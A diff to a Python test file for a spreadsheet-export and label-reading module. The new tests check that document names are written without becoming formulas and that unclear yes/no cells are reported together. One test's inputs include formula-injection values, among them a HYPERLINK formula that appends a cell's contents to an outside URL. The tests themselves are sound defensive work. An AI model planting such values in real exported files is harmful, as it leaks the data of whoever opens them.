@@ -112,6 +112,21 @@ def test_a_name_that_a_spreadsheet_would_run_is_defused_and_recognised(name: str
     assert forms.labels(without_file, "labels.csv", listed([name])) == {1: False}
 
 
+@pytest.mark.parametrize(
+    "name",
+    ['memo;=HYPERLINK("http://example.org/?"&A1,"open")', "a; +1", 'b;"=1', "c|-1", "d,@SUM(A1)", "e;\uff1d1", ";=1"],
+)
+def test_no_cell_becomes_a_formula_where_columns_are_separated_otherwise(name: str) -> None:
+    """A spreadsheet set to semicolons splits a comma-separated line where it finds one."""
+    written = spreadsheet.write(("position", "document"), [("1", name)]).decode("utf-8-sig")
+    for separator in ";|\t,":
+        for cell in written.splitlines()[1].split(separator):
+            assert not cell.lstrip(' "').startswith(("=", "+", "-", "@", "\uff1d"))
+    rows = blank([name])
+    without_file = saved([["position", "document", "responsive"], ["1", rows[1][1], "no"]])
+    assert forms.labels(without_file, "labels.csv", listed([name])) == {1: False}
+
+
 @pytest.mark.parametrize("word", ["WAHR", "VRAI", "Verdadero", "vero", "y", "Yes", "1", "responsive"])
 def test_a_true_is_understood_in_several_tongues(word: str) -> None:
     assert forms.labels(three(word, "no", "falsch"), "labels.csv", listed(THREE)) == {1: True, 2: False, 3: False}
@@ -128,6 +143,25 @@ def test_an_unclear_cell_is_refused_with_its_row(word: str) -> None:
 def test_an_empty_cell_is_refused_with_its_row() -> None:
     with pytest.raises(BadForm, match=r"row 4 \(position 3\): the column 'responsive' is empty; write yes or no"):
         forms.labels(three("yes", "no", ""), "labels.csv", listed(THREE))
+
+
+def test_all_unclear_cells_are_told_at_once() -> None:
+    with pytest.raises(BadForm) as raised:
+        forms.labels(three("", "no", "perhaps"), "labels.csv", listed(THREE))
+    assert str(raised.value).splitlines() == [
+        "labels.csv: 2 rows say neither yes nor no:",
+        "  - row 2 (position 1): the column 'responsive' is empty; write yes or no",
+        "  - row 4 (position 3): the column 'responsive' says 'perhaps'; write yes or no",
+    ]
+
+
+def test_of_many_unclear_cells_the_first_ten_are_told() -> None:
+    names = [f"mail-{number}" for number in range(25)]
+    with pytest.raises(BadForm) as raised:
+        forms.labels(saved(blank(names)), "labels.csv", listed(names))
+    lines = str(raised.value).splitlines()
+    assert (lines[0], lines[-1]) == ("labels.csv: 25 rows say neither yes nor no:", "  - and 15 other rows")
+    assert len(lines) == 12
 
 
 def test_a_missing_row_is_refused() -> None:
